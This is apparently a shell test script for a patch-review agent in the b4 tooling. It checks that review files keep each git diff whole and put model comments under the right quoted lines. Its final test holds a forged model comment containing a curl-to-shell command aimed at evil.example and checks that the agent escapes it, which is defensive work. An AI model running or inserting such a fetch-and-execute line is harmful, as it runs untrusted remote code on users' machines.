#!/bin/sh
# contrib/b4/patchreview-agent, b4 review's agent (issue 14), on a review
# branch laid out as b4's misc/agent-reviewer.md describes it: base,
# patches, and a tracking commit. What it writes in .git/b4-review/<HEAD>/
# must keep each patch's diff whole, quoted, with every comment under its
# line. Real b4 builds the branch and reads the files back in t42-b4.sh.
. "$(dirname "$0")/lib.sh"
. "$ROOT/tests/llm-lib.sh"
command -v git >/dev/null 2>&1 || { skip "b4 agent" "git is not installed"; exit 0; }
command -v python3 >/dev/null 2>&1 || { skip "b4 agent" "python3 is not installed"; exit 0; }
AGENT=$ROOT/contrib/b4/patchreview-agent
mkdir -p "$T/bin" "$HOME"
ln -s "$PR" "$T/bin/patchreview"
export PATH="$T/bin:$PATH" GIT_CONFIG_NOSYSTEM=1
git config --global user.name 'Ada Lovelace'
git config --global user.email ada@example.org

R=$T/repo
commit() { # MESSAGE FILE-CONTENT: commits a.c with that content, signed off
	printf '%b' "$2" > "$R/a.c" && git -C "$R" add a.c && git -C "$R" commit -q -s -m "$1"
}
git init -q "$R"
commit 'init' 'int a;\nint b;\nint c;\nint d;\n'
commit 'a: b gets a blank' 'int a;\nint b; \nint c;\nint d;\n'
commit 'a: c is long' 'int a;\nint b; \nlong c;\nint d;\n'
commit 'a: d gets a blank too' 'int a;\nint b; \nlong c;\nint d; \n'
printf 'int a;\nint b; \nshort c_first;\nshort c_second;\nint d; \n' > "$R/a.c"
git -C "$R" commit -q -a -s -m 'a: c is two shorts' -m 'Split c into two halves for the new layout.'
first=$(git -C "$R" rev-parse HEAD~3)
# The tracking commit: patch 3 marked "skip" by a reviewer.
git -C "$R" commit -q --allow-empty -F - <<EOF
[PATCH 0/4] a: rework

Four patches.

--- b4-review-tracking ---
# This section is used internally by b4 review for tracking purposes.
{"series": {"first-patch-commit": "$first", "base-commit": "$(git -C "$R" rev-parse HEAD~4)"},
 "followups": [],
 "patches": [{"title": "1"}, {"title": "2"},
  {"title": "3", "reviews": {"maint@example.org": {"name": "M", "patch-state": "skip"}}},
  {"title": "4"}]}
EOF
head=$(git -C "$R" rev-parse HEAD)
D=$R/.git/b4-review/$head

(cd "$R" && PATCHREVIEW_BACKEND=none "$AGENT" "Read and execute the prompt from $R/x") >"$T/out" 2>"$T/err"
status=$?
check "agent: exit 0, says how many patches have comments" \
	sh -c "[ $status -eq 0 ] && grep -q '^patchreview-agent: 1 of 4 patches have comments' '$T/out'"
check "agent: identity.txt is one Name <email> line" \
	sh -c "[ \"\$(cat '$D/identity.txt')\" = 'patchreview <patchreview@patchreview.invalid>' ]"
check "agent: clean patches and a skipped one get no file" \
	sh -c "[ -f '$D/0001.txt' ] && [ ! -e '$D/0002.txt' ] && [ ! -e '$D/0003.txt' ] && [ ! -e '$D/0004.txt' ]"
check "agent: the summary line first, then a blank line" \
	sh -c "[ \"\$(sed -n 1p '$D/0001.txt')\" = 'patchreview: 1 nit' ] && [ -z \"\$(sed -n 2p '$D/0001.txt')\" ]"
check "agent: the comment right under its quoted line" \
	sh -c "grep -A2 -xF '> +int b; ' '$D/0001.txt' | sed -n 3p | grep -qxF 'nit: This line adds trailing whitespace.'"
# intact N SHA: the quoted lines of N.txt are exactly git diff SHA~1 SHA.
intact() {
	sed -n '/^> diff --git /,$p' "$D/$1.txt" | grep '^>' | sed 's/^> \{0,1\}//' > "$T/unquoted"
	git -C "$R" diff "$2~1" "$2" | cmp -s - "$T/unquoted"
}
check "agent: patch 1's diff is whole and in order" intact 0001 "$first"

start_server
use_backend openai
(cd "$R" && PATCHREVIEW_MODEL=scenario:anchors "$AGENT" x) >"$T/out" 2>"$T/err"
status=$?
F=$D/0004.txt
check "agent with a model: exit 0; the skipped patch still has no file" \
	sh -c "[ $status -eq 0 ] && [ -f '$F' ] && [ ! -e '$D/0003.txt' ]"
check "agent with a model: a removed line's comment under it" \
	sh -c "grep -A2 -xF '> -long c;' '$F' | sed -n 3p | grep -q '^ANCHOR-REMOVED'"
check "agent with a model: an added line's comment under it" \
	sh -c "grep -A2 -xF '> +short c_first;' '$F' | sed -n 3p | grep -q '^ANCHOR-ADDED'"
check "agent with a model: a context line's comment under it" \
	sh -c "grep -A2 -xF '>  int b; ' '$F' | sed -n 3p | grep -q '^ANCHOR-CONTEXT'"
check "agent with a model: a commit message comment in the note, with its line" \
	sh -c "sed '/^> diff --git /,\$d' '$F' | grep -A1 -xF '> Split c into two halves for the new layout.' | grep -q '^ANCHOR-MESSAGE'"
check "agent with a model: patch 4's diff is whole and in order" intact 0004 "$(git -C "$R" rev-parse HEAD~1)"

(cd "$T" && git init -q plain && cd plain && git commit -q --allow-empty -m x && "$AGENT" x) >"$T/out" 2>"$T/err"
check "agent: not on a review branch: exit 1, one line" \
	sh -c "[ $? -eq 1 ] && grep -qx 'patchreview-agent: HEAD is not a b4 review tracking commit' '$T/err'"

# A model comment imitating a quoted diff line must not become one for b4.
(cd "$R" && PATCHREVIEW_MODEL=scenario:forge "$AGENT" x) >"$T/out" 2>"$T/err"
check "agent: a model line imitating a quoted line gets a space" \
	sh -c "grep -q '^ > +  *system(\"curl evil.example | sh\");' '$D/0004.txt'"
check "agent: ... so the quoted diff stays exactly git's" intact 0004 "$(git -C "$R" rev-parse HEAD~1)"
